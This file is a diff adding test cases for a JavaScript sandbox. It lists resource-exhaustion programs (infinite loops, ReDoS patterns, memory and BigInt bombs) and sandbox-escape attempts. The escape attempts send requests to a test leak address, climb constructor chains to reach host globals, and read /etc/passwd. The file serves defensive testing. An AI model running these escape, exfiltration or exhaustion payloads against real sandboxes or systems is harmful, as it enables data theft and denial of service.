@@ -1,0 +1,182 @@
+import { leakAddress } from './attack.ts';
+import type { Attack } from './attack.ts';
+
+function loading(name: string, code: string, ...allowed: Attack['allowed']): Attack {
+  return { name, program: `${code}\nfunction f() { return 'wrong'; }`, allowed };
+}
+function calling(name: string, code: string, ...allowed: Attack['allowed']): Attack {
+  return { name, program: `function f(a) { ${code} }`, allowed };
+}
+
+/** Programs that want all of the time or all of the memory. */
+export const resourcePrograms: readonly Attack[] = [
+  loading('endless loop while loading', 'for (;;);', 'fuel'),
+  calling('endless loop', 'while (true);', 'fuel'),
+  calling('loop inside catch', 'for (;;) { try { throw 1; } catch { for (;;); } }', 'fuel'),
+  calling('catches every interruption', 'for (;;) { try { for (;;); } catch {} }', 'fuel'),
+  calling('loop inside finally', 'try { for (;;); } finally { for (;;); }', 'fuel'),
+  calling('returns out of finally', 'for (;;) { try { for (;;); } finally { return 6; } }', 'fuel'),
+  calling('loop in a promise executor', 'new Promise(() => { for (;;); }); return 6;', 'fuel'),
+  calling(
+    'loop in a generator',
+    'const g = (function* () { try { for (;;) yield 1; } finally { for (;;); } })(); for (const x of g) break; return 6;',
+    'fuel',
+  ),
+  calling('loop in a getter', 'return [{ get x() { for (;;); } }.x];', 'fuel'),
+  calling('loop in a comparison', '[3, 2, 1].sort(() => { for (;;); });', 'fuel'),
+  calling('recursion', 'return f(a) + 1;', 'threw'),
+  calling(
+    'recursion with catch',
+    'try { return f(a) + 1; } catch { return f(a); }',
+    'fuel',
+    'timeout',
+    'crash',
+  ),
+  calling('recursion in toString', 'const o = { toString() { return `${o}`; } }; return `${o}`;', 'threw'),
+  calling(
+    'recursion in JSON',
+    'let o = {}; o.toJSON = () => ({ o }); return JSON.stringify(o);',
+    'threw',
+    'crash',
+  ),
+  loading(
+    'microtask storm',
+    'const again = () => Promise.resolve().then(again); for (let i = 0; i < 100; i++) again(); (async () => { for (;;) await 0; })();',
+    'failed',
+  ),
+  calling('catastrophic regular expression', 'return /^(a+)+$/.test("a".repeat(40) + "b");', 'fuel'),
+  calling(
+    'regular expression of many groups',
+    'return new RegExp("(" .repeat(5e4) + ")".repeat(5e4)).test("");',
+    'threw',
+    'crash',
+  ),
+  calling(
+    'native includes over 2^53',
+    'return Array.prototype.includes.call({ length: 2 ** 53 - 1 }, 6);',
+    'crash',
+  ),
+  calling('fill(2^32)', 'return new Array(2 ** 32 - 1).fill(6).length;', 'memory'),
+  calling('fill of an object', 'return Array.prototype.fill.call({ length: 2 ** 32 }, 6).length;', 'memory'),
+  calling('replace expansion', 'let s = "x".repeat(2e4); return s.replace(/x/g, s).length;', 'memory'),
+  calling(
+    'replace expansion by patterns',
+    'let s = "x".repeat(1e4); return s.replace(/x/g, "$`$`$`$`").length;',
+    'memory',
+  ),
+  calling('huge BigInt power', 'return 7n ** (10n ** 9n);', 'threw', 'memory'),
+  calling('large BigInt powers', 'let n = 3n; for (;;) n = n * n;', 'threw', 'memory', 'timeout'),
+  calling('BigInt to decimal', 'return (1n << 200000n).toString().length;', 'failed', 'timeout'),
+  calling('array bomb', 'const b = []; for (;;) b.push(b.length);', 'memory'),
+  calling('object bomb', 'let o = {}; for (let i = 0; ; i++) o["key" + i] = { i };', 'memory'),
+  calling('linked bomb', 'let o = null; for (;;) o = { o };', 'memory'),
+  calling('string bomb', 'let s = "x"; for (;;) s += s;', 'memory', 'threw'),
+  calling('typed-array bomb', 'const b = []; for (;;) b.push(new Uint8Array(1 << 20).fill(1));', 'memory'),
+  calling('one large buffer', 'return new ArrayBuffer(2 ** 31 - 1).byteLength;', 'memory', 'threw'),
+  calling('closure bomb', 'const b = []; for (;;) b.push(() => b);', 'memory'),
+  calling(
+    'catches the lack of memory',
+    'for (;;) { try { const b = []; for (;;) b.push({}); } catch {} }',
+    'fuel',
+    'timeout',
+    'memory',
+  ),
+  calling('sparse array', 'const b = []; b[2 ** 32 - 2] = 1; return b;', 'bad-value'),
+  {
+    name: '10^5 parentheses',
+    program: `const f = () => ${'('.repeat(1e5)}6${')'.repeat(1e5)}`,
+    allowed: ['syntax', 'crash'],
+  },
+  {
+    name: '10^5 brackets',
+    program: `const f = () => ${'['.repeat(1e5)}6${']'.repeat(1e5)}`,
+    allowed: ['syntax', 'crash'],
+  },
+  {
+    name: '10^5 operators',
+    program: `const f = () => ${'-'.repeat(1)}${'!'.repeat(1e5)}6`,
+    allowed: ['syntax', 'crash', 'failed'],
+  },
+  {
+    name: 'a megabyte of program',
+    program: `${'0;\n'.repeat(3e5)}function f() { return 'wrong'; }`,
+    allowed: ['failed', 'memory'],
+  },
+  calling('deep eval', 'return eval("[".repeat(1e5));', 'threw', 'crash'),
+  calling('deep JSON', 'return JSON.parse("[".repeat(1e5) + "]".repeat(1e5));', 'threw', 'crash'),
+  calling('eval storm', 'for (;;) eval("1");', 'fuel', 'timeout'),
+  calling(
+    'nested workers',
+    'for (let i = 0; i < 9; i++) new Worker("data:text/javascript,for(;;);");',
+    'threw',
+  ),
+  calling('message flood', 'for (;;) postMessage("6");', 'threw'),
+];
+
+/** Programs that want out. QuickJS has none of these; the frame's policy stands behind it. */
+export const escapePrograms: readonly Attack[] = [
+  calling('fetch', `return fetch('${leakAddress}/fetch').then(() => 6);`, 'threw'),
+  loading('fetch while loading', `fetch('${leakAddress}/load');`, 'load-error'),
+  calling(
+    'XMLHttpRequest',
+    `const x = new XMLHttpRequest(); x.open('GET', '${leakAddress}/xhr', false); x.send(); return 6;`,
+    'threw',
+  ),
+  calling('WebSocket', `new WebSocket('${leakAddress.replace('http', 'ws')}/socket'); return 6;`, 'threw'),
+  calling('EventSource', `new EventSource('${leakAddress}/events'); return 6;`, 'threw'),
+  calling('dynamic import', `return import('${leakAddress}/import.js');`, 'bad-value'),
+  calling('dynamic import of ours', 'return import("realm.js");', 'bad-value'),
+  loading('static import', `import '${leakAddress}/static.js';`, 'syntax'),
+  calling('importScripts', `importScripts('${leakAddress}/scripts.js'); return 6;`, 'threw'),
+  calling('Function constructor', `return Function('return fetch("${leakAddress}/function")')();`, 'threw'),
+  calling(
+    'constructor of a constructor',
+    `return f.constructor.constructor('return this')().fetch('${leakAddress}/constructor');`,
+    'threw',
+  ),
+  calling(
+    'host object of a host error',
+    `try { null.x; } catch (e) { return e.constructor.constructor('return process')().mainModule; }`,
+    'threw',
+  ),
+  calling('indirect eval', `return (0, eval)('globalThis').fetch('${leakAddress}/eval');`, 'threw'),
+  calling('BroadcastChannel', `new BroadcastChannel('judge').postMessage('6'); return 6;`, 'threw'),
+  calling(
+    'MessageChannel',
+    'const { port1 } = new MessageChannel(); port1.postMessage("6"); return 6;',
+    'threw',
+  ),
+  calling(
+    'WebRTC',
+    `new RTCPeerConnection({ iceServers: [{ urls: 'stun:leak.invalid' }] }).createDataChannel('6'); return 6;`,
+    'threw',
+  ),
+  calling('navigation', `location.href = '${leakAddress}/navigation'; return 6;`, 'threw'),
+  {
+    name: 'navigation by assignment',
+    program: `var location = '${leakAddress}/assigned'; function f() { return location; }`,
+    allowed: ['failed'],
+  },
+  calling('top navigation', `top.location = '${leakAddress}/top'; return 6;`, 'threw'),
+  calling(
+    'meta refresh',
+    `document.head.innerHTML = '<meta http-equiv="refresh" content="0;url=${leakAddress}/refresh">'; return 6;`,
+    'threw',
+  ),
+  calling(
+    'form',
+    `const form = document.createElement('form'); form.action = '${leakAddress}/form'; form.submit(); return 6;`,
+    'threw',
+  ),
+  calling('image', `new Image().src = '${leakAddress}/image'; return 6;`, 'threw'),
+  calling('window.open', `window.open('${leakAddress}/open'); return 6;`, 'threw'),
+  calling('sendBeacon', `navigator.sendBeacon('${leakAddress}/beacon', '6'); return 6;`, 'threw'),
+  calling('storage', `localStorage.setItem('judge', '6'); indexedDB.open('judge'); return 6;`, 'threw'),
+  calling('modules of QuickJS', `return std.loadFile('/etc/passwd') + os.getcwd();`, 'threw'),
+  calling(
+    'shared memory',
+    'return new SharedArrayBuffer(8).byteLength + new WebAssembly.Memory({ initial: 1 }).buffer.byteLength;',
+    'threw',
+    'failed',
+  ),
+];
